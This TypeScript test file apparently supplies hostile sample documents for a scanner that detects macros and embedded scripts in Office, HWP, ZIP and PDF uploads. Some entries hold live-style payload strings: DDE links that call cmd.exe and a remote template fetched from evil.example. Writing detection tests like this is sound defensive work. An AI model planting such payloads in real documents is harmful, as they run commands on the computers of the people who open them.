import * as documents from '../../support/documents.js';
import { unzipped, zipOf } from '../../support/zip.js';
import { anHwpWith, frame, handlers, jscript, office, running, wide, withParts } from './document-parts.js';
import type { HostileFile } from './hostile-file.js';

/** What runs when it is opened: taken, and marked. */
export const macros: HostileFile[] = [
  ['a Word document for macros', 'a.docm', () => documents.aDocx('ms-word.document.macroEnabled'), 'DOCX macros'],
  ['an Excel workbook for macros', 'a.xlsm', () => office('application/vnd.ms-excel.sheet.macroEnabled.main+xml'), 'XLSX macros'],
  [
    'a PowerPoint file for macros',
    'a.pptm',
    () => office('application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'),
    'PPTX macros',
  ],
  ['a document that hides its macros', 'a.docx', () => withParts(documents.aDocx(), { 'word/vbaProject.bin': 'x' }), 'DOCX macros'],
  ['a workbook that hides its macros', 'a.xlsx', () => withParts(documents.anXlsx(), { 'xl/VBAPROJECT.BIN': 'x' }), 'XLSX macros'],
  [
    'macros under another name',
    'a.docx',
    async () =>
      withParts(documents.aDocx(), {
        '[Content_Types].xml': String((await unzipped(await documents.aDocx()))['[Content_Types].xml']).replace(
          '</Types>',
          '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
      }),
    'DOCX macros',
  ],
  ['a sheet of macros', 'a.xlsx', () => withParts(documents.anXlsx(), { 'xl/macrosheets/sheet1.xml': '<a/>' }), 'XLSX macros'],
  ['a control', 'a.docx', () => withParts(documents.aDocx(), { 'word/activeX/activeX1.bin': 'x' }), 'DOCX macros'],
  [
    'values from another program',
    'a.xlsx',
    () =>
      withParts(documents.anXlsx(), {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    'XLSX macros',
  ],
  [
    'a field that asks another program',
    'a.docx',
    () =>
      withParts(documents.aDocx(), {
        'word/header1.xml': '<w:hdr><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:hdr>',
      }),
    'DOCX macros',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    () =>
      withParts(documents.aDocx(), {
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      }),
    'DOCX macros',
  ],
  ['a script in HWPX', 'a.hwpx', () => withParts(documents.anHwpx(), { 'Scripts/sourceScripts': wide(running) }), 'HWPX macros'],
  [
    'a script in HWPX in another writing',
    'a.hwpx',
    () => withParts(documents.anHwpx(), { 'Scripts/sourceScripts': running }),
    'HWPX macros',
  ],
  [
    'a script in HWPX beside empty ones',
    'a.hwpx',
    () => withParts(documents.anHwpx(), { 'Scripts/headerScripts': wide(frame), 'Scripts/sourceScripts': wide(`${handlers}${running}`) }),
    'HWPX macros',
  ],
  ['a script without end in HWPX', 'a.hwpx', () => withParts(documents.anHwpx(), { 'Scripts/a': '/*'.repeat(300_000) }), 'HWPX macros'],
  ['a script in HWP', 'a.hwp', () => anHwpWith({ 'Scripts/DefaultJScript': jscript(frame, running) }), 'HWP macros'],
  ['a script in HWP that is no script', 'a.hwp', () => anHwpWith({ 'Scripts/DefaultJScript': Buffer.alloc(90, 65) }), 'HWP macros'],
  [
    'an old workbook with macros in an archive',
    'a.zip',
    () =>
      zipOf({
        'a.csv': 'a,b',
        'a.xls': documents.compoundFile({ Workbook: Buffer.alloc(5000), '_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(90) }),
      }),
    'ZIP macros',
  ],
  [
    'a document with macros in an archive',
    'a.zip',
    async () => zipOf({ 'a.csv': 'a,b', 'a.docx': await documents.aDocx('ms-word.document.macroEnabled') }),
    'ZIP macros',
  ],
  ['a PDF that runs a script', 'a.pdf', () => documents.aScriptedPdf(), 'PDF macros'],
];
